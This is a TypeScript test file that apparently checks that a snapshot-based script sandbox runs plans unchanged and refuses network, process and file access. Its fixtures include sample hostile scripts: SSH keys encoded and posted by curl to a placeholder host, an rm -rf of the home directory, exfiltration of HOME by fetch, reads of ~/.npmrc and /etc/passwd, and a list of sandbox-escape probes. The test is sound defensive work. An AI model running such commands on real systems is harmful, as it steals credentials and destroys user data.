import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { buildPlan, type ExerciseUnit, type UnitLanguage } from '@assay/analysis/runs/plan';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { createEmbeddedSandbox } from '../embedded.ts';
import { buildImage } from './build.ts';
import { findImage, makeImage } from './image.ts';

const MAKE_MS = 170_000;
const PACKAGE_ROOT = fileURLToPath(new URL('../../../', import.meta.url));
const folder = mkdtempSync(join(tmpdir(), 'assay-image-'));
afterAll(() => rmSync(folder, { recursive: true }));

const unit = (path: string, language: UnitLanguage, code: string): ExerciseUnit => ({
  id: path,
  kind: 'script',
  language,
  path,
  line: 1,
  code,
  args: [],
  reachable: true,
});
const HOST = 'https://c.example.invalid/u';
const PLAN = buildPlan({
  digest: 'd',
  units: [
    unit(
      'a.sh',
      'bash',
      `set -e\nfor f in ~/.ssh/*; do gzip -c "$f" | base64 | curl -d @- ${HOST}; done\necho $RANDOM $(date)`,
    ),
    unit(
      'b.sh',
      'bash',
      `if [ "$USER" = root ]; then rm -rf ~; fi\nawk 'BEGIN { print 1 }' | xargs -n1 node c.js; git clone ${HOST}`,
    ),
    unit(
      'c.js',
      'javascript',
      `fetch('${HOST}', { method: 'POST', body: process.env.HOME + Math.random() + Date.now() })`,
    ),
    unit(
      'd.ts',
      'typescript',
      `import { execSync } from 'node:child_process'; const a: string = String(execSync('cat ~/.npmrc')); console.log(a)`,
    ),
    unit('e.sh', 'bash', 'if then'),
  ],
  files: [{ path: 'c.js', bytes: Buffer.from(`require('fs').readFileSync('/etc/passwd'); console.log(__filename)`) }],
});

describe('a memory image', () => {
  beforeAll(async () => {
    makeImage();
    await vi.waitUntil(() => findImage() !== undefined, { timeout: MAKE_MS, interval: 50 });
  }, MAKE_MS);

  it('makes no difference to what comes of a plan', async () => {
    const patient = { unitWallMs: 20_000, totalWallMs: 90_000 };
    const run = (image: 'if there' | 'never') => createEmbeddedSandbox({ ...patient, image }).run(PLAN);
    const [without, withImage] = [await run('never'), await run('if there')];
    expect(without.exercised).toEqual(['a.sh', 'b.sh', 'c.js', 'd.ts']);
    expect(withImage).toEqual(without);
  }, 120_000);
});

const ATTEMPTS: [what: string, expression: string][] = [
  ['a socket', `kept.net.connect(9, '127.0.0.1')`],
  ['a server', `kept.net.createServer().listen(0)`],
  ['a datagram', `kept.dgram.createSocket('udp4').send('x', 9, '127.0.0.1')`],
  ['a name look-up', `new Promise((done) => kept.dns.lookup('example.invalid', done))`],
  ['fetch', `fetch('http://127.0.0.1:9')`],
  ['a network module', `kept.late.https()`],
  ['a program', `kept.late.programs()`],
  ['a program that was loaded before', `new Promise((_, no) => kept.programs.spawn('true').once('error', no))`],
  ['a thread', `kept.late.threads()`],
  ['a module by its name', `import('node:https')`],
  ['a built-in by the back door', `process.getBuiltinModule('node:net').connect(9)`],
  ['a native binding', `process.binding('fs')`],
  ['a file of the machine', `kept.fs.readFileSync('/etc/hostname')`],
  ['writing', `kept.fs.writeFileSync(${JSON.stringify(`${PACKAGE_ROOT}never-written`)}, 'x')`],
  ['a signal to another process', `process.kill(process.ppid, 0)`],
];

describe('a process from an image that has closed its doors', () => {
  const image = join(folder, 'attempts.image');

  beforeAll(async () => {
    const entry = join(folder, 'attempts.ts');
    writeFileSync(
      entry,
      `import { startupSnapshot } from 'node:v8';
      import fs from 'node:fs'; import net from 'node:net'; import dns from 'node:dns'; import dgram from 'node:dgram';
      import * as programs from 'node:child_process';
      import { closeDoors, removeWebGlobals, takeImageDoors } from ${JSON.stringify(fileURLToPath(new URL('../lock-down.ts', import.meta.url)))};
      const late = { https: () => import('node:https'), threads: () => import('node:worker_threads'), programs: () => import('child_process') };
      const doors = takeImageDoors();
      removeWebGlobals();
      startupSnapshot.setDeserializeMainFunction(async () => {
        doors.close();
        closeDoors();
        let answer = 'possible';
        try { await new Function('kept', 'return (' + process.env.ATTEMPT + ')')({ fs, net, dns, dgram, programs, late }); }
        catch { answer = 'refused'; }
        fs.writeSync(1, answer);
        process.exit(0);
      });`,
    );
    expect(await buildImage(entry, image)).toBe(true);
  }, MAKE_MS);

  /** Runs one expression in such a process and returns its output. */
  function attempt(expression: string): string {
    const flags = ['--no-warnings', '--permission', `--allow-fs-read=${PACKAGE_ROOT}`, '--snapshot-blob', image];
    return spawnSync(process.execPath, flags, { env: { ATTEMPT: expression }, encoding: 'utf8' }).stdout;
  }

  it.each(ATTEMPTS)('has no way to %s', (_, expression) => expect(attempt(expression)).toBe('refused'));

  it('can still read what the engines need', () => {
    expect(attempt(`kept.fs.readFileSync(${JSON.stringify(`${PACKAGE_ROOT}package.json`)})`)).toBe('possible');
  });
});
